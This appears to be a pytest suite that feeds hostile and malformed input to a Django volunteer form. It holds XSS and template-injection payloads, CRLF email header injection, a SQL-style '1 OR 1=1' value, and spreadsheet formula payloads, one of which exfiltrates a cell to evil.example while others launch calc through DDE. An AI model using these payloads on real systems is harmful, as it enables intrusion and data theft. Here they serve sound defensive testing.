"""Bad input thrown at the public volunteer form (issue 4 "Bad input", security.md BI-*, PF-07/08,
DP-08).

Very long values, null bytes, bidi controls, markup and script payloads, formula payloads, CR/LF in
email, choices that were not offered, extra fields, wrong content types and methods, too many
fields, too large bodies. Each gets a 4xx or the form again with errors (never a 500) and nothing is
half-saved; what is accepted is stored as plain text and stays inert on the confirmation page, in
the admin queue, in the emails and in the CSV/XLSX exports.
"""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from submissions.models import OutgoingEmail, SubmissionNote
from tests.conftest import soup
from tests.factories import new_phone
from volunteer_signup.models import Area, VolunteerApplication, VolunteerRole

pytestmark = pytest.mark.django_db

LANGUAGES = ["ar", "en"]
TEXT_FIELDS = ["full_name", "phone", "email", "skills", "motivation"]
GROUPS = ["age_band", "languages", "roles", "availability"]
FORMULA_STARTS = ("=", "+", "-", "@")


def counts():
    return (
        VolunteerApplication.objects.count(),
        OutgoingEmail.objects.count(),
        SubmissionNote.objects.count(),
    )


def error_links(response):
    summary = soup(response).select_one(".error-summary")
    assert summary is not None, "no error summary"
    return [a["href"][1:] for a in summary.select("a[href^='#']")]


def control_id(prefix, field):
    return f"id_{prefix}-{field}_0" if field in GROUPS else f"id_{prefix}-{field}"


def assert_field_error(response, prefix, field):
    assert response.status_code == 400
    assert control_id(prefix, field) in error_links(response)
    control = soup(response).find(id=control_id(prefix, field))
    assert control.get("aria-invalid") == "true"


# --- very long values ---------------------------------------------------------------------------


def long_value(field, length):
    if field == "email":
        return "a" * (length - len("@example.org")) + "@example.org"
    if field == "phone":
        return "5" * length
    return ("ب" if field in ("full_name", "motivation") else "x") * length


@pytest.mark.parametrize("length", [10_000, 1_000_000])
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_very_long_value_is_a_field_error_and_nothing_is_saved(
    client, open_form, valid_application, volunteer_pages, field, length
):
    url = volunteer_pages["en" if length > 10_000 else "ar"].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, **{field: long_value(field, length)}))
    assert_field_error(response, form.prefix, field)
    assert counts() == before


def test_body_larger_than_the_upload_limit_is_a_400(client, open_form, valid_application, volunteer_pages, settings):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    before = counts()
    too_big = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    response = client.post(url, valid_application(form, motivation=too_big))
    assert response.status_code == 400
    assert counts() == before


# --- null bytes ---------------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_null_byte_in_a_text_field_is_a_field_error(
    client, open_form, valid_application, volunteer_pages, language, field
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    values = {
        "full_name": "Layla\x00 Haddad",
        "phone": "050\x001234567",
        "email": "layla\x00@example.org",
        "skills": "First aid\x00",
        "motivation": "\x00I want to help.",
    }
    before = counts()
    response = client.post(url, valid_application(form, **{field: values[field]}))
    assert_field_error(response, form.prefix, field)
    assert counts() == before


@pytest.mark.parametrize(
    "overrides",
    [
        {"age_band": "25_34\x00"},
        {"area": "2\x00"},
        {"languages": ["ar\x00"]},
        {"availability": ["weekends\x00"]},
        {"consent": "on\x00"},
    ],
    ids=["age_band", "area", "languages", "availability", "consent"],
)
def test_null_byte_in_a_choice_never_gives_a_500(client, open_form, valid_application, volunteer_pages, overrides):
    url = volunteer_pages["ar"].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, phone=new_phone(), **overrides))
    assert response.status_code in (303, 400)
    if response.status_code == 400:
        assert counts() == before
    else:  # a tick box with any value is ticked; nothing with a null byte reaches the database
        application = VolunteerApplication.objects.latest("pk")
        assert "\x00" not in json.dumps([application.languages, application.availability, application.age_band])


@pytest.mark.parametrize("field", ["form_block", "form_token", "sharaka_hp_leave_blank"])
def test_null_byte_in_a_hidden_field_never_gives_a_500(client, open_form, valid_application, volunteer_pages, field):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    data[field] = data[field] + "\x00"
    before = counts()
    response = client.post(url, data)
    assert response.status_code in (303, 400)
    assert counts() == before


# --- invalid encodings --------------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["%FF%FE", "%C0%AF", "%ED%A0%80", "%00", "%E2%80%AE"])
def test_invalid_utf8_in_the_body_never_gives_a_500(client, open_form, valid_application, volunteer_pages, raw):
    from urllib.parse import urlencode

    url = volunteer_pages["en"].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    name_key = f"{form.prefix}-full_name"
    data[name_key] = "PLACEHOLDER"
    body = urlencode(data, doseq=True).replace("PLACEHOLDER", f"Layla{raw}Haddad")
    response = client.generic("POST", url, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (303, 400)
    if response.status_code == 303:
        name = VolunteerApplication.objects.latest("pk").full_name
        assert "\x00" not in name and "\u202e" not in name
        assert name.startswith("Layla") and name.endswith("Haddad")


# --- bidirectional controls and invisible characters ------------------------------------------------


BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("char", BIDI, ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidi_controls_are_stripped_from_the_stored_name(
    client, open_form, valid_application, volunteer_pages, language, char
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    name = f"{char}Layla{char} Had{char}dad\u2069"
    response = client.post(url, valid_application(form, full_name=name, phone=new_phone()))
    assert response.status_code == 303
    assert VolunteerApplication.objects.latest("pk").full_name == "Layla Haddad"


@pytest.mark.parametrize("language", LANGUAGES)
def test_free_text_loses_bidi_overrides_but_keeps_arabic_marks(
    client, open_form, valid_application, volunteer_pages, language
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    motivation = "\u202eأريد المساعدة\u202c \u200fفي الحي\u061c 2025\u2066!\u2069"
    skills = "إسعافات \u2067أولية\u2069"
    response = client.post(
        url,
        valid_application(form, motivation=motivation, skills=skills, full_name="\u200bنور\u200d الهدى\ufeff"),
    )
    assert response.status_code == 303
    application = VolunteerApplication.objects.latest("pk")
    assert application.motivation == "أريد المساعدة \u200fفي الحي\u061c 2025!"
    assert application.skills == "إسعافات أولية"
    assert application.full_name == "نور الهدى"


@pytest.mark.parametrize("name", ["\u202e\u202e", "\u200b\u200b\u2066\u2069", "  \u202e "])
def test_name_made_only_of_invisible_characters_is_refused(client, open_form, valid_application, volunteer_pages, name):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, full_name=name, phone=new_phone()))
    assert_field_error(response, form.prefix, "full_name")
    assert counts() == before


# --- digits of other scripts and normalisation that changes the length --------------------------


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "typed",
    [
        "०५० १२३ ४५६७",  # Devanagari (Hindi is one of the languages offered)
        "০৫০ ১২৩ ৪৫৬৭",  # Bengali (also offered)
        "０５０ １２３ ４５６７",  # full-width
        "𝟎𝟓𝟎 𝟏𝟐𝟑 𝟒𝟓𝟔𝟕",  # mathematical bold
    ],
    ids=["devanagari", "bengali", "full-width", "math-bold"],
)
def test_phone_in_digits_of_other_scripts_is_stored_ascii_or_refused(
    client, open_form, valid_application, volunteer_pages, language, typed
):
    """Python's \\d matches every script's digits: a phone is either normalised to 0-9 or refused,
    never stored in digits that repeat detection, rate limits and staff cannot match or dial."""
    url = volunteer_pages[language].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, phone=typed))
    if response.status_code == 400:
        assert_field_error(response, form.prefix, "phone")
        assert counts() == before
    else:
        assert response.status_code == 303
        phone = VolunteerApplication.objects.latest("pk").phone
        assert phone == "+971501234567", f"stored {phone!r}"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("full_name", "\ufdfa" * 10),  # one character each, 18 after NFKC
        ("skills", "\u0958" * 1000),  # one code point each, two after NFC
    ],
    ids=["name-nfkc-expands", "skills-nfc-expands"],
)
def test_length_limits_hold_after_normalisation(client, open_form, valid_application, volunteer_pages, field, value):
    """A value within the limit as typed but over it once normalised is refused (PostgreSQL would
    reject the row; SQLite would store more than the column allows)."""
    url = volunteer_pages["ar"].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, phone=new_phone(), **{field: value}))
    max_length = VolunteerApplication._meta.get_field(field).max_length
    if response.status_code == 400:
        assert_field_error(response, form.prefix, field)
        assert counts() == before
    else:
        assert response.status_code == 303
        stored = getattr(VolunteerApplication.objects.latest("pk"), field)
        assert len(stored) <= max_length, f"{field} stored with {len(stored)} characters, limit {max_length}"


# --- markup and script payloads -------------------------------------------------------------------


PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ request.META }}{% debug %}",
    "<svg/onload=alert(1)>",
]


def assert_inert(html_soup, payload):
    """The payload is not markup anywhere on the page; it is there as text."""
    for script in html_soup.find_all("script"):
        assert "alert(1)" not in (script.string or ""), "an injected <script> element"
    assert html_soup.find_all(attrs={"onerror": True}) == []
    assert html_soup.find_all(attrs={"onload": True}) == []
    assert html_soup.find("svg", attrs={"onload": True}) is None


def payload_application(client, open_form, valid_application, url, payload, django_capture_on_commit_callbacks):
    form = open_form(client, url)
    answers = {
        "full_name": payload,
        "skills": payload,
        "motivation": f"I care. {payload}",
        "phone": new_phone(),
        "email": "payload@example.org",
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, valid_application(form, **answers))
    assert response.status_code == 303
    return response, VolunteerApplication.objects.latest("pk")


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_stored_as_text_and_inert_on_the_confirmation_and_in_emails(
    client,
    open_form,
    valid_application,
    volunteer_pages,
    staff,
    language,
    payload,
    django_capture_on_commit_callbacks,
):
    url = volunteer_pages[language].url
    response, application = payload_application(
        client, open_form, valid_application, url, payload, django_capture_on_commit_callbacks
    )
    assert application.full_name == payload
    assert application.skills == payload
    assert application.motivation == f"I care. {payload}"
    confirmation = client.get(response["Location"])
    assert confirmation.status_code == 200
    assert_inert(soup(confirmation), payload)
    assert "alert(1)" not in confirmation.content.decode()
    assert len(mail.outbox) >= 2
    for message in mail.outbox:
        assert payload not in message.body and payload not in message.subject
        assert "alert(1)" not in message.body and "{%" not in message.body


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_escaped_in_the_admin_listing_and_inspect_view(
    client, login, open_form, valid_application, volunteer_pages, staff, payload, django_capture_on_commit_callbacks
):
    _response, application = payload_application(
        client, open_form, valid_application, volunteer_pages["ar"].url, payload, django_capture_on_commit_callbacks
    )
    coordinator = login(staff["coordinator"])
    listing = coordinator.get(reverse("volunteer_application:index"))
    assert listing.status_code == 200
    page = soup(listing)
    assert_inert(page, payload)
    row = page.find(string=lambda s: s and application.reference in s).find_parent("tr")
    assert payload in row.get_text()
    # resident-typed text is isolated so it cannot reorder the row
    assert any(bdi.get_text() == payload for bdi in row.find_all("bdi"))
    inspect = coordinator.get(reverse("volunteer_application:inspect", args=[application.pk]))
    assert inspect.status_code == 200
    page = soup(inspect)
    assert_inert(page, payload)
    text = page.get_text()
    assert text.count(payload) >= 3  # name, skills, motivation, shown as text


def export(client, export_format):
    response = client.get(reverse("volunteer_application:index") + f"?export={export_format}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def csv_row(content, reference):
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    matches = [row for row in rows if reference in row]
    assert len(matches) == 1
    return matches[0]


def xlsx_row(content, reference):
    sheet = load_workbook(io.BytesIO(content)).active
    matches = [row for row in sheet.iter_rows() if any(cell.value == reference for cell in row)]
    assert len(matches) == 1
    return matches[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_plain_text_in_csv_and_xlsx_exports(
    client, login, open_form, valid_application, volunteer_pages, staff, payload, django_capture_on_commit_callbacks
):
    _response, application = payload_application(
        client, open_form, valid_application, volunteer_pages["en"].url, payload, django_capture_on_commit_callbacks
    )
    coordinator = login(staff["coordinator"])
    _r, content = export(coordinator, "csv")
    row = csv_row(content, application.reference)
    assert row.count(payload) == 2  # name and skills
    assert f"I care. {payload}" in row
    _r, content = export(coordinator, "xlsx")
    cells = xlsx_row(content, application.reference)
    values = [cell.value for cell in cells]
    assert values.count(payload) == 2
    assert all(cell.data_type != "f" for cell in cells)


FORMULAS = {
    "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "skills": "+1+cmd|' /C calc'!A0",
    "motivation": "-2+3 is what I bring",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_formula_values_are_neutralised_in_csv_and_text_in_xlsx(
    client, login, open_form, valid_application, volunteer_pages, staff, language
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    response = client.post(
        url, valid_application(form, phone="+971 58 123 4567", email="formula@example.org", **FORMULAS)
    )
    assert response.status_code == 303
    application = VolunteerApplication.objects.latest("pk")
    VolunteerApplication.objects.filter(pk=application.pk).update(skills="@SUM(1+1)*cmd|' /C calc'!A0")
    values = {**FORMULAS, "skills": "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert application.full_name == FORMULAS["full_name"]
    assert application.phone == "+971581234567"  # stored E.164; exported nationally, so never formula-like
    coordinator = login(staff["coordinator"])

    _r, content = export(coordinator, "csv")
    row = csv_row(content, application.reference)
    assert "058 123 4567" in row
    for field, value in values.items():
        assert value.startswith(FORMULA_STARTS)
        assert "'" + value in row, f"{field} is not neutralised in the CSV"
        assert value not in row, f"{field} appears raw in the CSV"

    _r, content = export(coordinator, "xlsx")
    cells = xlsx_row(content, application.reference)
    for field, value in values.items():
        matching = [cell for cell in cells if isinstance(cell.value, str) and cell.value.lstrip("'") == value]
        assert matching, f"{field} is missing from the XLSX"
        assert all(cell.data_type == "s" for cell in matching), f"{field} is not text in the XLSX"
    assert all(cell.data_type != "f" for cell in cells)


# --- email header injection -------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "email",
    [
        "a@b.c\r\nBcc: x@y.z",
        "layla@example.org\r\nBcc: x@y.z",
        "layla@example.org\nBcc: x@y.z",
        "layla@example.org\rBcc: x@y.z",
        "layla@example.org\r\n\r\nBody",
        '"a\nb"@example.org',
        "layla@example.org%0d%0aBcc:x@y.z",
    ],
)
def test_cr_lf_in_email_is_a_field_error(
    client, open_form, valid_application, volunteer_pages, language, email, django_capture_on_commit_callbacks
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    before = counts()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, valid_application(form, email=email, phone=new_phone()))
    assert_field_error(response, form.prefix, "email")
    assert counts() == before
    assert mail.outbox == []


def test_cr_lf_in_the_name_adds_no_recipient_or_header(
    client, open_form, valid_application, volunteer_pages, staff, django_capture_on_commit_callbacks
):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            url,
            valid_application(form, full_name="Layla\r\nBcc: x@y.z\r\n", email="header@example.org", phone=new_phone()),
        )
    assert response.status_code == 303
    assert VolunteerApplication.objects.latest("pk").full_name == "Layla Bcc: x@y.z"
    for message in mail.outbox:
        assert "x@y.z" not in message.recipients()
        assert message.bcc == []
        assert "x@y.z" not in message.message().as_string()


# --- choices that were not offered -----------------------------------------------------------------


def other_locale_area(language):
    return str(Area.objects.exclude(locale__language_code=language).first().pk)


def other_locale_role(language):
    return str(VolunteerRole.objects.exclude(locale__language_code=language).first().pk)


NOT_OFFERED = {
    "age 99": ("age_band", lambda form, language: "99"),
    "age empty string": ("age_band", lambda form, language: ""),
    "area of the other language": ("area", lambda form, language: other_locale_area(language)),
    "area that does not exist": ("area", lambda form, language: "999999"),
    "area not a number": ("area", lambda form, language: "1 OR 1=1"),
    "role of the other language": ("roles", lambda form, language: [other_locale_role(language)]),
    "role that does not exist": ("roles", lambda form, language: ["999999"]),
    "role not a number": ("roles", lambda form, language: ["x"]),
    "language zz": ("languages", lambda form, language: ["ar", "zz"]),
    "availability never": ("availability", lambda form, language: ["never"]),
}


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("case", list(NOT_OFFERED))
def test_choice_that_was_not_offered_is_a_400_with_an_error(
    client, open_form, valid_application, volunteer_pages, language, case
):
    field, value = NOT_OFFERED[case]
    url = volunteer_pages[language].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, phone=new_phone(), **{field: value(form, language)}))
    assert_field_error(response, form.prefix, field)
    assert counts() == before


@pytest.mark.parametrize("language", LANGUAGES)
def test_role_that_was_closed_is_a_400_with_an_error(client, open_form, valid_application, volunteer_pages, language):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    role = VolunteerRole.objects.get(pk=form.options("roles")[0])
    VolunteerRole.objects.filter(translation_key=role.translation_key).update(is_open=False)
    before = counts()
    response = client.post(url, valid_application(form, phone=new_phone(), roles=[str(role.pk)]))
    assert_field_error(response, form.prefix, "roles")
    assert counts() == before


@pytest.mark.parametrize("language", LANGUAGES)
def test_under_18_is_refused_with_its_explanation(client, open_form, valid_application, volunteer_pages, language):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    before = counts()
    response = client.post(url, valid_application(form, age_band="under_18", phone=new_phone()))
    assert_field_error(response, form.prefix, "age_band")
    with translation.override(language):
        explanation = gettext("You must be 18 or over to volunteer. Ask your school about youth programmes instead.")
    page = soup(response)
    summary_texts = [" ".join(a.get_text().split()) for a in page.select(".error-summary a")]
    assert explanation in summary_texts
    assert explanation in page.find(id=f"id_{form.prefix}-age_band_error").get_text()
    assert counts() == before


# --- extra fields and duplicated keys ------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_extra_fields_are_ignored(client, open_form, valid_application, volunteer_pages, staff, language):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    extra = {
        "status": "accepted",
        "assignee": str(staff["coordinator"].pk),
        "reference": "VOL-HACKED",
        "idempotency_key": "chosen-by-attacker",
        "anonymised_at": "2020-01-01T00:00:00Z",
        "submitted_at": "2000-01-01T00:00:00Z",
        "repeat_of": "1",
        "locale": "1",
        "source_page": "1",
        "consent_notice": "1",
    }
    for key, value in extra.items():
        data[key] = value
        data[f"{form.prefix}-{key}"] = value
    response = client.post(url, data)
    assert response.status_code == 303
    application = VolunteerApplication.objects.latest("pk")
    assert application.status == "new"
    assert application.assignee_id is None
    assert application.reference != "VOL-HACKED" and application.reference.startswith("VOL-")
    assert application.idempotency_key != "chosen-by-attacker"
    assert application.anonymised_at is None
    assert timezone.now() - application.submitted_at < timedelta(minutes=1)
    assert application.repeat_of_id is None
    assert application.locale.language_code == language
    assert application.source_page_id == volunteer_pages[language].pk


def test_duplicated_keys_are_handled_deterministically(client, open_form, valid_application, volunteer_pages):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    response = client.post(
        url, valid_application(form, full_name=["First Name", "Second Name"], phone=[new_phone(), "0521112222"])
    )
    assert response.status_code == 303
    application = VolunteerApplication.objects.latest("pk")
    assert application.full_name == "Second Name"
    assert application.phone == "+971521112222"


# --- wrong content types, methods and sizes ---------------------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "encode"),
    [
        ("application/json", json.dumps),
        ("text/plain", lambda data: "\n".join(f"{k}={v}" for k, v in data.items())),
        ("application/xml", lambda data: "<form>" + "".join(f"<{k}>{v}</{k}>" for k, v in data.items()) + "</form>"),
        ("multipart/form-data", lambda data: "--x\r\nbroken"),  # no boundary
        ("multipart/form-data; boundary=zzz", lambda data: "--zzz\r\nContent-Disposition: form-data\r\n\r\nx"),
    ],
    ids=["json", "text", "xml", "multipart-without-boundary", "broken-multipart"],
)
def test_wrong_content_type_is_a_400_and_nothing_is_saved(
    client, open_form, valid_application, volunteer_pages, content_type, encode
):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    before = counts()
    response = client.generic("POST", url, encode(data), content_type=content_type)
    assert response.status_code == 400
    assert counts() == before


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_other_methods_on_the_page_never_give_a_500_or_save(
    client, open_form, valid_application, volunteer_pages, language, method
):
    url = volunteer_pages[language].url
    form = open_form(client, url)
    from urllib.parse import urlencode

    body = urlencode(valid_application(form, phone=new_phone()), doseq=True)
    before = counts()
    response = client.generic(method, url, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code < 500
    assert counts() == before


@pytest.mark.parametrize(("fields", "status"), [(1000, 303), (1001, 400)])
def test_more_than_1000_fields_is_a_400(client, open_form, valid_application, volunteer_pages, fields, status):
    url = volunteer_pages["ar"].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    pairs = sum(len(value) if isinstance(value, list) else 1 for value in data.values())
    for n in range(fields - pairs):
        data[f"extra{n}"] = "x"
    assert sum(len(value) if isinstance(value, list) else 1 for value in data.values()) == fields
    before = counts()
    response = client.post(url, data)
    assert response.status_code == status
    if status == 400:
        assert counts() == before


def test_post_for_a_block_that_is_not_on_the_page_is_a_400(client, open_form, valid_application, volunteer_pages):
    url = volunteer_pages["en"].url
    form = open_form(client, url)
    data = valid_application(form, phone=new_phone())
    data["form_block"] = "00000000-0000-4000-8000-000000000000"
    before = counts()
    assert client.post(url, data).status_code == 400
    del data["form_block"]
    assert client.post(url, data).status_code == 400
    assert counts() == before
